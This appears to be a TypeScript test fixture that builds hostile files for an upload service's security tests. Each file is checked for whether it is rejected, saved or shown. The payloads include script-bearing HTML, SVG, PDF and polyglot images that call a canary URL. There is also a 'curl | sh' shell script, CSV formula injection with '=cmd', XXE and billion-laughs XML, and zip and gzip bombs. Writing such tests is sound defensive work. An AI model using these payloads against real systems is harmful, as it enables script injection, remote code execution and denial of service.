import { crc32, deflateRawSync, deflateSync, gzipSync } from "node:zlib";

/**
 * Files that mean harm, made here to the last byte: what they are taken for, and what a browser is told to do with them.
 * The API's test asks for the verdicts; web/e2e opens what was accepted in a browser.
 */

/** What comes out of uploading the bytes under one declared type. */
export type Outcome =
  /** Refused at confirm: no link ever. */
  | "REJECTED"
  /** Accepted as this type, which a browser saves. */
  | { readonly saved: string }
  /** Accepted as this type, which a browser shows. */
  | { readonly shown: string };

export interface HostileFile {
  readonly name: string;
  readonly what: string;
  readonly bytes: Uint8Array;
  /** By declared type. */
  readonly outcomes: Readonly<Record<string, Outcome>>;
  /** The type under which a browser runs it: what proves that the payload works. Absent where it needs another program. */
  readonly runsAs?: string;
}

/** The Content-Type that S3 is told to send for a found type. */
export const servedAs = (contentType: string): string =>
  contentType === "text/plain" ? "text/plain; charset=utf-8" : contentType;

/**
 * Every file. Whatever runs tells the canary, `<canary>/ran?<name>`, and whatever navigates goes there too: a listener at
 * that address hears of it.
 * @param canary absolute URL without a slash at its end
 */
export function hostileFiles(canary: string): readonly HostileFile[] {
  const script = (name: string): string =>
    `window.ran=1;document.title="ran";fetch("${canary}/ran?${name}",{mode:"no-cors"})`;
  const tag = (name: string): string => `<script>${script(name)}</script>`;
  const html = (name: string): string =>
    `<!doctype html><html><head><meta http-equiv="refresh" content="1;url=${canary}/went?${name}"></head><body onload='${script(name)}'>${tag(name)}<img src=x onerror='${script(name)}'></body></html>`;
  const cdata = (name: string): string => `<script><![CDATA[${script(name)}]]></script>`;
  const svg = (name: string): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40"/>${cdata(name)}</svg>`;
  /** JavaScript that a parser of some other format takes for data. */
  const inComment = (name: string): string => `*/=1;${script(name)};/*`;

  const AS_PAGE = { "text/html": { saved: "text/html" }, "image/png": "REJECTED" } as const;
  const AS_SVG = { "image/svg+xml": { saved: "image/svg+xml" }, "image/png": "REJECTED" } as const;
  const AS_TEXT = { "text/plain": { shown: "text/plain" } } as const;

  const files: (Omit<HostileFile, "bytes"> & { readonly bytes: Uint8Array | string })[] = [
    {
      ...{ name: "page.png", what: "HTML as PNG", bytes: html("page.png"), runsAs: "text/html" },
      outcomes: { ...AS_PAGE, ...AS_TEXT, "application/octet-stream": { saved: "application/octet-stream" } },
    },
    {
      ...{ name: "far.txt", what: "HTML behind more white space than a sniffer reads", runsAs: "text/html" },
      bytes: `${" \n\t".repeat(1000)}${html("far.txt")}`,
      outcomes: AS_TEXT,
    },
    {
      ...{
        name: "bom.html",
        what: "HTML behind a byte order mark",
        bytes: `\ufeff${html("bom.html")}`,
        runsAs: "text/html",
      },
      outcomes: { ...AS_PAGE, ...AS_TEXT },
    },
    {
      ...{ name: "utf-16.html", what: "HTML in UTF-16", bytes: utf16(html("utf-16.html")), runsAs: "text/html" },
      outcomes: { ...AS_PAGE, ...AS_TEXT },
    },
    {
      ...{ name: "utf-7.txt", what: "HTML in UTF-7, which old browsers guess", bytes: utf7(tag("utf-7.txt")) },
      outcomes: { "text/html": { saved: "text/html" }, ...AS_TEXT },
    },
    {
      ...{ name: "fragment.txt", what: "a lone script element", bytes: tag("fragment.txt"), runsAs: "text/html" },
      outcomes: { ...AS_PAGE, ...AS_TEXT },
    },
    {
      ...{ name: "strict.xhtml", what: "XHTML", runsAs: "application/xhtml+xml" },
      bytes: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${cdata("strict.xhtml")}</body></html>`,
      outcomes: {
        "application/xhtml+xml": { saved: "application/xhtml+xml" },
        "text/plain": { saved: "application/xml" },
        "image/png": "REJECTED",
      },
    },
    {
      ...{ name: "archive.mhtml", what: "MHTML", bytes: mhtml(html("archive.mhtml")) },
      outcomes: {
        "multipart/related": { saved: "multipart/related" },
        "message/rfc822": { saved: "message/rfc822" },
        ...AS_TEXT,
      },
    },
    {
      ...{ name: "stream.mixed", what: "a multipart that replaces itself" },
      bytes: `--b\r\ncontent-type: text/html\r\n\r\n${html("stream.mixed")}\r\n--b--\r\n`,
      outcomes: { "multipart/x-mixed-replace": { saved: "multipart/x-mixed-replace" } },
    },
    {
      ...{ name: "styled.xml", what: "XML that XSLT turns into a page", runsAs: "text/xml" },
      bytes: xslt(tag("styled.xml")),
      outcomes: { "text/xml": { saved: "application/xml" }, "application/xml": { saved: "application/xml" } },
    },
    {
      ...{ name: "drawing.svg", what: "SVG with a script", bytes: svg("drawing.svg"), runsAs: "image/svg+xml" },
      outcomes: { ...AS_SVG, ...AS_TEXT, "application/xml": { saved: "application/xml" } },
    },
    {
      ...{ name: "declared.svg", what: "SVG with an XML declaration", runsAs: "image/svg+xml" },
      bytes: `<?xml version="1.0" encoding="utf-8"?>${svg("declared.svg")}`,
      outcomes: { ...AS_SVG, "text/plain": { saved: "application/xml" } },
    },
    {
      ...{ name: "bom.svg", what: "SVG behind a byte order mark", runsAs: "image/svg+xml" },
      bytes: `\ufeff<?xml version="1.0"?>${svg("bom.svg")}`,
      outcomes: { ...AS_SVG, "text/plain": { saved: "application/xml" } },
    },
    {
      ...{ name: "utf-16.svg", what: "SVG in UTF-16", runsAs: "image/svg+xml" },
      bytes: utf16(`<?xml version="1.0" encoding="utf-16"?>${svg("utf-16.svg")}`),
      outcomes: { ...AS_SVG, "text/plain": { saved: "application/xml" } },
    },
    {
      ...{ name: "comment.svg", what: "SVG behind a long comment", runsAs: "image/svg+xml" },
      bytes: `<!--${"x".repeat(2000)}-->\n${svg("comment.svg")}`,
      outcomes: { ...AS_SVG, ...AS_TEXT },
    },
    {
      ...{ name: "entity.svg", what: "SVG whose script comes out of an entity", runsAs: "image/svg+xml" },
      bytes: `<!DOCTYPE svg [<!ENTITY run '${script("entity.svg")}'>]><svg xmlns="http://www.w3.org/2000/svg"><script>&run;</script></svg>`,
      outcomes: { ...AS_SVG, ...AS_TEXT },
    },
    {
      ...{ name: "handler.svg", what: "SVG with an event handler", runsAs: "image/svg+xml" },
      bytes: `<svg xmlns="http://www.w3.org/2000/svg" onload='${script("handler.svg")}'/>`,
      outcomes: { ...AS_SVG, ...AS_TEXT },
    },
    {
      ...{ name: "packed.svgz", what: "SVG in gzip", bytes: gzipSync(svg("packed.svgz")) },
      outcomes: { "image/svg+xml": { saved: "application/gzip" }, "image/png": "REJECTED" },
    },
    {
      ...{ name: "laughs.svg", what: "a billion laughs", bytes: laughs() },
      outcomes: { ...AS_SVG, ...AS_TEXT },
    },
    {
      ...{ name: "code.js", what: "a script", bytes: script("code.js"), runsAs: "text/javascript" },
      outcomes: { "text/javascript": { saved: "text/javascript" }, ...AS_TEXT },
    },
    {
      ...{
        name: "shell.hta",
        what: "an HTML application",
        bytes: `<hta:application id=a>${html("shell.hta")}`,
        runsAs: "text/html",
      },
      outcomes: { "application/hta": { saved: "application/hta" }, ...AS_TEXT },
    },
    {
      ...{ name: "goto.url", what: "a shortcut" },
      bytes: `[InternetShortcut]\r\nURL=${canary}/went?goto.url\r\n`,
      outcomes: { "application/internet-shortcut": { saved: "application/internet-shortcut" }, ...AS_TEXT },
    },
    {
      ...{ name: "feed.xml", what: "a feed with a script", runsAs: "application/xhtml+xml" },
      bytes: `<rss xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${script("feed.xml")}</h:script></rss>`,
      outcomes: { "application/rss+xml": { saved: "application/rss+xml" }, "text/xml": { saved: "text/xml" } },
    },
    {
      ...{ name: "action.pdf", what: "PDF that runs JavaScript when it is opened", bytes: pdf(script("action.pdf")) },
      outcomes: {
        "application/pdf": { saved: "application/pdf" },
        "text/plain": { saved: "application/pdf" },
        "image/png": "REJECTED",
      },
    },
    {
      ...{ name: "both.pdf", what: "PDF and HTML", runsAs: "text/html" },
      bytes: `%PDF-1.7\n<!--\n%âãÏÓ-->${html("both.pdf")}`,
      outcomes: { "application/pdf": { saved: "application/pdf" }, "text/html": { saved: "application/pdf" } },
    },
    {
      ...{ name: "late.pdf", what: "HTML, and PDF after it, where some readers still find it", runsAs: "text/html" },
      bytes: `${html("late.pdf")}\n%PDF-1.7\n`,
      outcomes: { "application/pdf": "REJECTED", "text/html": { saved: "text/html" } },
    },
    {
      ...{
        name: "script.gif",
        what: "GIF and JavaScript",
        bytes: gifScript(inComment("script.gif")),
        runsAs: "text/javascript",
      },
      outcomes: {
        "image/gif": { shown: "image/gif" },
        "text/javascript": { shown: "image/gif" },
        "image/png": "REJECTED",
      },
    },
    {
      ...{ name: "script.jpg", what: "JPEG and JavaScript" },
      bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), latin1(`/*JFIF\0${inComment("script.jpg")}*/`)]),
      outcomes: { "image/jpeg": { shown: "image/jpeg" }, "text/javascript": { shown: "image/jpeg" } },
    },
    {
      ...{
        name: "script.bmp",
        what: "BMP and JavaScript",
        bytes: latin1(`BM/*\0\0\0\0\0\0${inComment("script.bmp")}*/`),
      },
      outcomes: { "image/bmp": { saved: "image/bmp" }, "text/javascript": { saved: "image/bmp" } },
    },
    {
      ...{ name: "page-inside.png", what: "PNG with HTML in its text", runsAs: "text/html" },
      bytes: png(1, 1, [chunk("tEXt", latin1(`Comment\0${html("page-inside.png")}`))]),
      outcomes: { "image/png": { shown: "image/png" }, "text/html": { shown: "image/png" }, "image/gif": "REJECTED" },
    },
    {
      ...{ name: "page-behind.png", what: "PNG with HTML behind its end", runsAs: "text/html" },
      bytes: Buffer.concat([png(1, 1), latin1(html("page-behind.png"))]),
      outcomes: { "image/png": { shown: "image/png" }, "text/plain": { shown: "image/png" } },
    },
    {
      ...{ name: "profile.png", what: "PNG with a colour profile that unpacks to 32 MiB", runsAs: undefined },
      bytes: png(1, 1, [chunk("iCCP", Buffer.concat([latin1("p\0\0"), deflateSync(Buffer.alloc(32 * 1024 ** 2))]))]),
      outcomes: { "image/png": { shown: "image/png" } },
    },
    {
      ...{ name: "flood.png", what: "PNG of 50,000 by 50,000 pixels in some bytes", bytes: png(50_000, 50_000) },
      outcomes: { "image/png": { shown: "image/png" } },
    },
    {
      ...{ name: "flood.gif", what: "GIF of 65,535 by 65,535 pixels", bytes: gif(65_535, 65_535) },
      outcomes: { "image/gif": { shown: "image/gif" } },
    },
    {
      ...{
        name: "zip-behind.jpg",
        what: "JPEG with a zip behind it",
        bytes: Buffer.concat([JPEG, zip("a.html", html("zip-behind.jpg"))]),
      },
      outcomes: { "image/jpeg": { shown: "image/jpeg" }, "application/zip": "REJECTED" },
    },
    {
      ...{ name: "page-inside.jpg", what: "JPEG with HTML in its comment", runsAs: "text/html" },
      bytes: Buffer.concat([JPEG.subarray(0, 20), jpegComment(html("page-inside.jpg")), JPEG.subarray(20)]),
      outcomes: { "image/jpeg": { shown: "image/jpeg" }, "text/html": { shown: "image/jpeg" } },
    },
    {
      ...{ name: "page-behind.webp", what: "WebP with HTML behind it", runsAs: "text/html" },
      bytes: Buffer.concat([WEBP, latin1(html("page-behind.webp"))]),
      outcomes: { "image/webp": { shown: "image/webp" }, "text/html": { shown: "image/webp" } },
    },
    {
      ...{ name: "page-inside.avif", what: "AVIF that goes on as HTML", runsAs: "text/html" },
      bytes: Buffer.concat([ftyp("avif"), latin1(html("page-inside.avif"))]),
      outcomes: { "image/avif": { shown: "image/avif" }, "text/html": { shown: "image/avif" } },
    },
    {
      ...{ name: "page-inside.mp4", what: "MP4 that goes on as HTML", runsAs: "text/html" },
      bytes: Buffer.concat([ftyp("isom"), latin1(html("page-inside.mp4"))]),
      outcomes: { "video/mp4": { shown: "video/mp4" }, "text/html": { shown: "video/mp4" } },
    },
    {
      ...{ name: "page-inside.mp3", what: "MP3 whose title is HTML", runsAs: "text/html" },
      bytes: id3(html("page-inside.mp3")),
      outcomes: { "audio/mpeg": { shown: "audio/mpeg" }, "text/html": { shown: "audio/mpeg" } },
    },
    {
      ...{ name: "page-inside.wav", what: "WAV that goes on as HTML", runsAs: "text/html" },
      bytes: latin1(`RIFF\x24\0\0\0WAVEfmt \x10\0\0\0${html("page-inside.wav")}`),
      outcomes: { "audio/wav": { shown: "audio/wav" }, "text/html": { shown: "audio/wav" } },
    },
    {
      ...{ name: "bomb.zip", what: "64 MiB of zeros in a zip", bytes: zip("zeros.html", Buffer.alloc(64 * 1024 ** 2)) },
      outcomes: {
        "application/zip": { saved: "application/zip" },
        "text/plain": { saved: "application/zip" },
        "image/png": "REJECTED",
      },
    },
    {
      ...{ name: "bomb.gz", what: "64 MiB of zeros in gzip", bytes: gzipSync(Buffer.alloc(64 * 1024 ** 2)) },
      outcomes: { "application/gzip": { saved: "application/gzip" }, "text/html": { saved: "application/gzip" } },
    },
    {
      ...{
        name: "loop.asf",
        what: "the 55 bytes of CVE-2026-31808, on which a parser loops for ever",
        bytes: endlessAsf(),
      },
      outcomes: { "video/x-ms-asf": "REJECTED", "application/octet-stream": { saved: "application/octet-stream" } },
    },
    {
      ...{ name: "program.txt", what: "a Windows program as text", bytes: program() },
      outcomes: { "text/plain": { saved: "application/x-msdownload" }, "image/png": "REJECTED" },
    },
    {
      ...{ name: "binary.txt", what: "text with zeros in it, which a browser takes for no text", runsAs: "text/html" },
      bytes: Buffer.concat([Buffer.from([1, 2, 3, 0]), latin1(html("binary.txt"))]),
      outcomes: AS_TEXT,
    },
    {
      ...{
        name: "movie.swf",
        what: "Flash",
        bytes: Buffer.concat([latin1("CWS\x0a\x40\0\0\0"), deflateSync(Buffer.alloc(64))]),
      },
      outcomes: {
        "application/x-shockwave-flash": { saved: "application/x-shockwave-flash" },
        "text/html": { saved: "application/x-shockwave-flash" },
      },
    },
    {
      ...{ name: "module.wasm", what: "WebAssembly", bytes: latin1("\0asm\x01\0\0\0") },
      outcomes: {
        "application/wasm": { saved: "application/wasm" },
        "text/plain": { saved: "application/wasm" },
        "image/png": "REJECTED",
      },
    },
    {
      ...{ name: "install.sh", what: "a shell script", bytes: `#!/bin/sh\ncurl '${canary}/went?install.sh' | sh\n` },
      outcomes: { "application/x-sh": { saved: "application/x-sh" }, ...AS_TEXT, "image/png": "REJECTED" },
    },
    {
      ...{ name: "secrets.json", what: "JSON that is a script too", bytes: `[{"at":"${canary}/went?secrets.json"}]` },
      outcomes: { "application/json": { saved: "application/json" }, ...AS_TEXT },
    },
    {
      ...{ name: "formula.csv", what: "a table with formulas" },
      bytes: `=HYPERLINK("${canary}/went?formula.csv"),=cmd|'/c calc'!A1\r\n`,
      outcomes: { "text/csv": { saved: "text/csv" }, ...AS_TEXT },
    },
    {
      ...{ name: "outside.xml", what: "XML with an entity from outside" },
      bytes: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "${canary}/went?outside.xml">]><a>&e;</a>`,
      outcomes: {
        "application/xml": { saved: "application/xml" },
        "image/svg+xml": { saved: "image/svg+xml" },
        "text/plain": { saved: "application/xml" },
      },
    },
    {
      ...{ name: "style.css", what: "a style sheet that asks for a picture", runsAs: "text/css" },
      bytes: `p{background:url("${canary}/ran?style.css")}`,
      outcomes: { "text/css": { saved: "text/css" }, ...AS_TEXT, "image/png": "REJECTED" },
    },
    {
      ...{ name: "favicon.ico", what: "an icon that goes on as HTML", runsAs: "text/html" },
      bytes: Buffer.concat([Buffer.from("0000010001000101000001001800", "hex"), latin1(html("favicon.ico"))]),
      outcomes: { "image/x-icon": { saved: "image/x-icon" }, "image/png": "REJECTED" },
    },
    {
      ...{ name: "script.wav", what: "WAV and JavaScript", runsAs: "text/javascript" },
      bytes: latin1(`RIFF=1/*WAVEfmt */;${script("script.wav")}`),
      outcomes: { "audio/wav": { shown: "audio/wav" }, "text/javascript": { shown: "audio/wav" } },
    },
    {
      ...{ name: "bomb.docx", what: "a document whose list of contents unpacks to 16 MiB" },
      bytes: zip("[Content_Types].xml", Buffer.alloc(16 * 1024 ** 2)),
      outcomes: {
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document": {
          saved: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        },
        "text/plain": { saved: "application/zip" },
      },
    },
    {
      ...{ name: "nothing.html", what: "nothing at all, called a page", bytes: "" },
      outcomes: {
        "text/html": { saved: "text/html" },
        "image/png": { saved: "application/octet-stream" },
        ...AS_TEXT,
      },
    },
  ];
  return files.map((file) => ({ ...file, bytes: Buffer.from(file.bytes) }));
}

const latin1 = (text: string): Buffer => Buffer.from(text, "latin1");

const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, "utf16le");

const utf7 = (text: string): string => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-").replaceAll('"', "+ACI-");

function mhtml(page: string): string {
  const head =
    'From: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n';
  return `${head}--b\r\nContent-Type: text/html\r\nContent-Location: http://x.test/\r\n\r\n${page}\r\n--b--\r\n`;
}

/** Carries its own stylesheet: the document refers to a part of itself. */
function xslt(page: string): string {
  const template = `<xsl:template match="/"><html><body>${page.replaceAll("&", "&amp;")}</body></html></xsl:template>`;
  const sheet = `<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">${template}</xsl:stylesheet>`;
  const doctype = "<!DOCTYPE doc [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>";
  return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>${doctype}<doc>${sheet}</doc>`;
}

/** Ten entities, each ten times the one before. */
function laughs(): string {
  const entities = Array.from({ length: 9 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join("");
  return `<!DOCTYPE svg [<!ENTITY e0 "ha">${entities}]><svg xmlns="http://www.w3.org/2000/svg"><text>&e9;</text></svg>`;
}

function pdf(code: string): string {
  const action = `<</S/JavaScript/JS(${code.replaceAll(/[()\\]/g, "\\$&")})>>`;
  return `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`;
}

/** Width 0x2a2f, which reads as the beginning of a comment: the whole is a script. */
const gifScript = (code: string): Buffer => latin1(`GIF89a/*\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\0;${code}*/`);

function gif(width: number, height: number): Buffer {
  const screen = Buffer.alloc(7);
  screen.writeUInt16LE(width, 0);
  screen.writeUInt16LE(height, 2);
  const image = Buffer.alloc(10);
  image.write(",");
  image.writeUInt16LE(width, 5);
  image.writeUInt16LE(height, 7);
  return Buffer.concat([latin1("GIF89a"), screen, image, latin1("\x02\x02\x44\x01\0;")]);
}

/** https://www.w3.org/TR/png-3/ with as many pixels as told, and data for one. */
function png(width: number, height: number, more: readonly Buffer[] = []): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8);
  header.writeUInt8(2, 9);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const data = chunk("IDAT", deflateSync(Buffer.from([0, 30, 90, 200])));
  return Buffer.concat([signature, chunk("IHDR", header), ...more, data, chunk("IEND", Buffer.alloc(0))]);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([latin1(type), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

/** One pixel. */
const JPEG = Buffer.from(
  "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=",
  "base64",
);

function jpegComment(text: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([Buffer.from([0xff, 0xfe]), length, latin1(text)]);
}

/** One pixel, lossless. */
const WEBP = Buffer.from("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==", "base64");

function ftyp(brand: string): Buffer {
  const box = Buffer.alloc(24);
  box.writeUInt32BE(24);
  box.write(`ftyp${brand}\0\0\0\0${brand}mif1`, 4, "latin1");
  return box;
}

/** An ID3 tag of one frame, and the sync word of a first frame of sound. */
function id3(title: string): Buffer {
  const frame = Buffer.concat([latin1("TIT2"), uint32(title.length + 1), Buffer.from([0, 0, 0]), latin1(title)]);
  const size = frame.length;
  const header = Buffer.from([
    0x49,
    0x44,
    0x33,
    3,
    0,
    0,
    (size >> 21) & 127,
    (size >> 14) & 127,
    (size >> 7) & 127,
    size & 127,
  ]);
  return Buffer.concat([header, frame, Buffer.from([0xff, 0xfb, 0x90, 0x64]), Buffer.alloc(413)]);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** One entry. https://pkware.cachefly.net/webdocs/casestudies/APPNOTE.TXT */
function zip(name: string, content: Buffer | string): Buffer {
  const data = Buffer.from(content);
  const packed = deflateRawSync(data, { level: 9 });
  const facts = Buffer.alloc(26);
  facts.writeUInt16LE(20, 0);
  facts.writeUInt16LE(8, 4);
  facts.writeUInt32LE(crc32(data), 10);
  facts.writeUInt32LE(packed.length, 14);
  facts.writeUInt32LE(data.length, 18);
  facts.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([latin1("PK\x03\x04"), facts, latin1(name), packed]);
  const central = Buffer.concat([latin1("PK\x01\x02\x14\0"), facts, Buffer.alloc(14), latin1(name)]);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

/** A header object, and in it one of length 0. https://github.com/sindresorhus/file-type/security/advisories */
function endlessAsf(): Buffer {
  const bytes = Buffer.alloc(55);
  Buffer.from("3026b2758e66cf11a6d900aa0062ce6c", "hex").copy(bytes);
  bytes.writeBigUInt64LE(30n, 16);
  bytes.writeUInt32LE(1, 24);
  return bytes;
}

function program(): Buffer {
  const bytes = Buffer.alloc(512);
  bytes.write("MZ");
  bytes.writeUInt32LE(64, 60);
  bytes.write("PE\0\0", 64, "latin1");
  return bytes;
}
